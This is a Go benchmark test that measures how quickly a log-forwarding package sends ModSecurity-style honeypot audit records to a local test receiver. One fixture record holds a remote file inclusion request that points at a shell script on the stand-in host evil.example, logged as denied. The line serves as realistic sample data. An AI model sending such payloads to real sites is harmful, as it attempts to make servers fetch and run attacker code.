package forward

import (
	"io"
	"net/http"
	"net/http/httptest"
	"strconv"
	"testing"
	"time"

	"github.com/trapline/trapline/audit"
)

// sampleRecord is as big as what the article's rule leaves for a GET on a trap port, 1.6 KB.
func sampleRecord(id string) *audit.Record {
	return &audit.Record{
		ID: id, Time: time.Now(), Parts: "ABFEHZ", Status: 403,
		RequestHead:  []byte("GET /index.php?page=http://evil.example/shell.txt? HTTP/1.1\nHost: www.example1.com\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36\nAccept: */*\nConnection: close\n"),
		ResponseHead: []byte("HTTP/1.1 403 Forbidden\nContent-Length: 239\nConnection: close\nContent-Type: text/html; charset=iso-8859-1\n"),
		ResponseBody: []byte("<!DOCTYPE HTML PUBLIC \"-//W3C//DTD HTML 4.01//EN\" \"http://www.w3.org/TR/html4/strict.dtd\">\n<html><head>\n<title>403 Forbidden</title>\n</head><body>\n<h1>Forbidden</h1>\n<p>You don't have permission to access this resource.</p>\n</body></html>\n"),
		Action:       &audit.Action{Kind: "deny", Phase: 2, Status: 403},
		Matches:      []audit.Match{{ID: 999004, File: "/etc/trapline/honeypot.conf", Line: 25, Disruptive: true, Phase: 2, Operator: `Pattern match "^(8000|8080|8888)$" at SERVER_PORT.`, Message: "HoneyTrap Alert: Traffic Received on Fake Port.", Variables: []string{"SERVER_PORT"}}},
		Trailer:      []audit.Field{{Name: "Producer", Value: "ModSecurity for Apache/2.9.7 (http://www.modsecurity.org/)."}, {Name: "Server", Value: "Apache/2.4.71 (Debian)"}, {Name: "Engine-Mode", Value: `"ENABLED"`}},
	}
}

// BenchmarkForward sends a spool of 1.6 KB entries to a receiver on loopback that stores nothing.
func BenchmarkForward(b *testing.B) {
	for _, protocol := range []string{ProtocolMlogc, ProtocolBatch} {
		b.Run(protocol, func(b *testing.B) {
			sink := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				io.Copy(io.Discard, r.Body)
				if r.Method == http.MethodPost {
					io.WriteString(w, `{"stored":1}`)
				}
			}))
			defer sink.Close()
			s := openSpool(b, b.TempDir())
			r, err := s.Reader("console")
			if err != nil {
				b.Fatal(err)
			}
			f, err := New(Config{Reader: r, Destination: Destination{URL: sink.URL, Protocol: protocol}, Drain: true})
			if err != nil {
				b.Fatal(err)
			}
			entry := audit.AppendNative(nil, sampleRecord(audit.NewID()))
			b.SetBytes(int64(len(entry)))
			for i := range b.N {
				if i%1000 == 999 || i == b.N-1 {
					err = s.Append(b.Context(), "id"+strconv.Itoa(i), entry)
				} else {
					s.Queue("id"+strconv.Itoa(i), entry)
				}
				if err != nil {
					b.Fatal(err)
				}
			}
			b.ResetTimer()
			if err := f.Run(b.Context()); err != nil {
				b.Fatal(err)
			}
			if n, _ := r.Backlog(); n != 0 {
				b.Fatalf("%d left", n)
			}
			b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "events/s")
		})
	}
}
